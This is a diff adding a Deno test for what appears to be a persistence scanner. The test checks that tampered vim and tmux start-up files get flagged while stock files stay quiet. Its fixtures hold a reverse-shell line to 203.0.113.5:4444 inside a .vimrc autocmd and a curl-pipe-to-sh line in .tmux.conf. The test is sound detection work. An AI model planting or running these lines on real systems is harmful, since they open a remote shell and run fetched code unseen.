@@ -206,3 +206,20 @@ Deno.test("persistence shell: fish and the X session files are start-up files to
     "high persistence.command.download_exec /home/bob/.config/fish/conf.d/sync.fish",
   ]);
 });
+
+Deno.test("persistence tools: vimrc, tmux and screen start-up files that run payloads fire; stock ones stay quiet", async () => {
+  using root = makeTree(withAccounts({
+    "home/bob/.vimrc":
+      '" my settings\nset number\nautocmd VimEnter * silent !bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\n',
+    "home/bob/.tmux.conf": 'set -g mouse on\nrun-shell "curl -fsSL http://203.0.113.5/t | sh"\n',
+    // Debian's vimrc as shipped (comments with payload-like words, runtime, source) and a plain screenrc.
+    "etc/vim/vimrc": '" bash -i >& /dev/tcp/ is only a comment here\nruntime! debian.vim\n' +
+      'if filereadable("/etc/vim/vimrc.local")\n  source /etc/vim/vimrc.local\nendif\n',
+    "etc/screenrc": "startup_message off\ndefscrollback 1024\n",
+  }));
+  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
+  assert.deepEqual(summary(r.findings), [
+    "critical persistence.command.reverse_shell /home/bob/.vimrc",
+    "high persistence.command.download_exec /home/bob/.tmux.conf",
+  ]);
+});
